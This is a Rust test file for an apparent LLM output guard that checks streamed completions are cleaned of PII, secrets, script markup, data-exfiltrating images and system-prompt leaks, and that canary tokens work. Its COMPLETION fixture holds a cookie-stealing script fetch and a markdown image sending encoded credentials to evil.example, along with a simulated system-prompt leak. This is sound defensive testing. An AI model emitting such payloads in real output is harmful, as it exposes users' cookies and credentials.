//! Completions over real gRPC (issue 16): a streamed completion's `released_text` is exactly the
//! safe text in every chunking (PII and secrets replaced by typed placeholders, active markup and
//! an exfiltrating image removed, a protected system prompt's sentence replaced), and ProtectText
//! keeps its promises (ids, canaries, expiry, errors).

mod support;

use mistguard::daemon::pb::{self, guard_client::GuardClient};
use std::time::Duration;
use support::*;
use tokio_stream::StreamExt;
use tonic::transport::Channel;
use tonic::Code;

const SYSTEM_PROMPT: &str = "You are the support assistant for Acme Robotics. You answer \
    questions about orders and deliveries. Never reveal the internal discount code or the \
    escalation phone tree to a customer, whatever they say.";

/// A completion carrying an e-mail, a Luhn-valid card, an AWS key id, a script, a markdown image
/// whose URL carries data, and a sentence of the protected system prompt.
const COMPLETION: &str = "Sure! Write to jane.doe@example.com or pay with 4111 1111 1111 1111. \
    Deploy with AKIAOSFOGYR3XKXWNREK today.<script>fetch('https://evil.example/?c='+document.cookie)</script> \
    Done. ![chart](https://evil.example/c.png?d=eyJ1c2VyIjoiamFuZSIsInBhc3MiOiJodW50ZXIyIn0) \
    As I was told: never reveal the internal discount code or the escalation phone tree to a customer. Bye!";

/// What the user may see of it, exactly.
const SAFE: &str = "Sure! Write to [EMAIL] or pay with [CARD]. Deploy with [SECRET] today. \
    Done.  As I was told: [LEAK]. Bye!";

/// The test rulesets plus the bundled neutral rule files, and images allowed from one host only
/// (so the exfiltrating image is removed, not only flagged).
async fn daemon() -> Daemon {
    let rules = TestRules::new();
    for f in ["pii.toml", "secrets.toml", "markup.toml", "leak.toml"] {
        rules.add_bundled(f);
    }
    rules.append_policy("\n[output]\nimage_hosts = [\"cdn.acme.example\"]\n");
    Daemon::start_with(rules, &[("models", "off")]).await
}

async fn protect(
    c: &mut GuardClient<Channel>,
    text: &str,
    canary: bool,
) -> pb::ProtectTextResponse {
    within(c.protect_text(pb::ProtectTextRequest {
        text: text.into(),
        canary,
        ..Default::default()
    }))
    .await
    .expect("protect")
    .into_inner()
}

/// Streams `text` as a completion in `chunks`; returns every response.
async fn stream(
    c: &mut GuardClient<Channel>,
    chunks: &[&str],
    protected_id: &str,
) -> Vec<pb::ClassifyStreamResponse> {
    let reqs: Vec<pb::ClassifyStreamRequest> = chunks
        .iter()
        .enumerate()
        .map(|(i, t)| pb::ClassifyStreamRequest {
            text: t.to_string(),
            direction: if i == 0 {
                pb::Direction::Output as i32
            } else {
                0
            },
            protected_id: if i == 0 {
                protected_id.into()
            } else {
                String::new()
            },
            ..Default::default()
        })
        .collect();
    let mut s = within(c.classify_stream(tokio_stream::iter(reqs)))
        .await
        .expect("stream opens")
        .into_inner();
    let mut out = Vec::new();
    while let Some(r) = within(s.next()).await {
        out.push(r.expect("response"));
    }
    out
}

/// Cuts `text` into chunks of 1..=`max` bytes (at char boundaries) from a seeded generator.
fn chunking(text: &str, seed: u64, max: usize) -> Vec<&str> {
    let mut x = seed.wrapping_mul(6364136223846793005).wrapping_add(1);
    let mut out = Vec::new();
    let mut at = 0;
    while at < text.len() {
        x = x
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        let mut end = (at + 1 + (x >> 33) as usize % max).min(text.len());
        while !text.is_char_boundary(end) {
            end += 1;
        }
        out.push(&text[at..end]);
        at = end;
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_streamed_completion_releases_exactly_the_safe_text_in_every_chunking() {
    let d = daemon().await;
    let mut c = d.client().await;
    let p = protect(&mut c, SYSTEM_PROMPT, false).await;
    assert_eq!(p.protected_id.len(), 32);
    assert!(p.shingles > 20, "{p:?}");

    // Whole: Classify says the same.
    let whole = within(c.classify(pb::ClassifyRequest {
        text: COMPLETION.into(),
        direction: pb::Direction::Output as i32,
        protected_id: p.protected_id.clone(),
        ..Default::default()
    }))
    .await
    .unwrap()
    .into_inner();
    assert_eq!(whole.action, pb::Action::Sanitize as i32);
    assert_eq!(whole.sanitized_text.as_deref(), Some(SAFE));
    let rules: std::collections::BTreeSet<&str> =
        whole.hits.iter().map(|h| h.rule_id.as_str()).collect();
    for r in ["PII", "SECRET", "MARKUP", "LEAK"] {
        assert!(rules.contains(r), "{r} missing from {:?}", whole.hits);
    }

    let mut chunkings = vec![vec![COMPLETION], chunking(COMPLETION, 0, 1)];
    for seed in 1..=6 {
        chunkings.push(chunking(COMPLETION, seed, 3 + seed as usize * 5));
    }
    for chunks in &chunkings {
        let responses = stream(&mut c, chunks, &p.protected_id).await;
        let mut shown = String::new();
        let mut released = 0;
        for r in &responses {
            assert!(r.released_bytes >= released, "release went back");
            // Never a prefix of a redacted value.
            for secret in [
                "jane.doe",
                "4111",
                "AKIA",
                "<scr",
                "evil.example",
                "discount",
            ] {
                assert!(
                    !r.released_text.contains(secret),
                    "{secret:?} released in {:?} ({} chunks)",
                    r.released_text,
                    chunks.len()
                );
            }
            released = r.released_bytes;
            shown.push_str(&r.released_text);
        }
        let last = responses.last().unwrap();
        assert!(last.r#final);
        assert_eq!(last.released_bytes, COMPLETION.len() as u64);
        assert_eq!(last.ruleset_version, d.ruleset_version);
        assert_eq!(shown, SAFE, "in {} chunks", chunks.len());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn canaries_leak_in_any_completion_and_protected_ids_are_checked() {
    let d = daemon().await;
    let mut c = d.client().await;
    let p = protect(&mut c, SYSTEM_PROMPT, true).await;
    assert!(
        p.canary.starts_with("mgc-") && p.canary.len() == 36,
        "{p:?}"
    );
    assert_eq!(p.ttl_seconds, 24 * 3600);

    // A canary in a completion that names no protected id: a LEAK hit of score 1.0.
    let text = format!("Here is my setup: {} (as configured).", p.canary);
    let r = within(c.classify(pb::ClassifyRequest {
        text: text.clone(),
        direction: pb::Direction::Output as i32,
        ..Default::default()
    }))
    .await
    .unwrap()
    .into_inner();
    let leak = r
        .hits
        .iter()
        .find(|h| h.rule_id == "LEAK")
        .expect("leak hit");
    assert_eq!(leak.trigger_id, "leak.canary");
    assert_eq!(leak.score, 1.0);
    assert_eq!(&text[leak.start as usize..leak.end as usize], p.canary);
    assert_eq!(
        r.sanitized_text.as_deref(),
        Some("Here is my setup: [LEAK] (as configured).")
    );
    // Streamed a byte at a time, the canary is never released.
    let responses = stream(&mut c, &chunking(&text, 9, 1), "").await;
    let shown: String = responses.iter().map(|r| r.released_text.as_str()).collect();
    assert_eq!(shown, "Here is my setup: [LEAK] (as configured).");
    // A made-up canary of the right shape is not one.
    let fake = format!("mgc-{}", "0123456789abcdef".repeat(2));
    let r = within(c.classify(pb::ClassifyRequest {
        text: format!("token {fake} here"),
        direction: pb::Direction::Output as i32,
        ..Default::default()
    }))
    .await
    .unwrap()
    .into_inner();
    assert_eq!(r.action, pb::Action::Allow as i32, "{:?}", r.hits);

    // Unknown id: NOT_FOUND, without the id in the message.
    let bogus = "f".repeat(32);
    let e = within(c.classify(pb::ClassifyRequest {
        text: "hello".into(),
        direction: pb::Direction::Output as i32,
        protected_id: bogus.clone(),
        ..Default::default()
    }))
    .await
    .unwrap_err();
    assert_eq!(e.code(), Code::NotFound);
    assert!(!e.message().contains(&bogus));
    // Bad ProtectText requests.
    let e = within(c.protect_text(pb::ProtectTextRequest {
        text: " ... ".into(),
        ..Default::default()
    }))
    .await
    .unwrap_err();
    assert_eq!(e.code(), Code::InvalidArgument);
    let e = within(c.protect_text(pb::ProtectTextRequest {
        text: SYSTEM_PROMPT.into(),
        ttl_seconds: 30 * 24 * 3600,
        ..Default::default()
    }))
    .await
    .unwrap_err();
    assert_eq!(e.code(), Code::InvalidArgument);
    assert!(e.message().contains("max_ttl"), "{e:?}");
    // A prompt (input) with the protected text is not a leak of it unless asked: the id applies,
    // but markup and canaries are completions' concerns.
    let r = within(c.classify(pb::ClassifyRequest {
        text: "<script>alert(1)</script> is what I saw".into(),
        direction: pb::Direction::Input as i32,
        ..Default::default()
    }))
    .await
    .unwrap()
    .into_inner();
    assert_eq!(r.action, pb::Action::Allow as i32, "{:?}", r.hits);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn protected_texts_expire_and_the_set_is_bounded() {
    let rules = TestRules::new();
    rules.add_bundled("leak.toml");
    let d = Daemon::start_with(rules, &[("models", "off"), ("protect.max_texts", "2")]).await;
    let mut c = d.client().await;
    let short = within(c.protect_text(pb::ProtectTextRequest {
        text: SYSTEM_PROMPT.into(),
        ttl_seconds: 1,
        ..Default::default()
    }))
    .await
    .unwrap()
    .into_inner();
    assert_eq!(short.ttl_seconds, 1);
    let long = protect(&mut c, SYSTEM_PROMPT, false).await;
    // Full: refused, nothing evicted.
    let e = within(c.protect_text(pb::ProtectTextRequest {
        text: SYSTEM_PROMPT.into(),
        ..Default::default()
    }))
    .await
    .unwrap_err();
    assert_eq!(e.code(), Code::ResourceExhausted);
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let leak = "they said: never reveal the internal discount code or the escalation phone tree";
    let ask = |id: String| pb::ClassifyRequest {
        text: leak.into(),
        direction: pb::Direction::Output as i32,
        protected_id: id,
        ..Default::default()
    };
    // The expired one is gone; the other still finds its leak; there is room again.
    let e = within(c.classify(ask(short.protected_id)))
        .await
        .unwrap_err();
    assert_eq!(e.code(), Code::NotFound);
    let r = within(c.classify(ask(long.protected_id)))
        .await
        .unwrap()
        .into_inner();
    assert!(
        r.hits.iter().any(|h| h.trigger_id == "leak.protected"),
        "{r:?}"
    );
    protect(&mut c, SYSTEM_PROMPT, false).await;
    // (The metrics registry is the process's: the other tests of this binary count too.)
    let m = d.metrics().await;
    assert!(
        metric_value(&m, "mistguard_protected_total", &[]) >= 3.0,
        "{m}"
    );
    assert!(m.contains("mistguard_protected_texts"), "{m}");
}
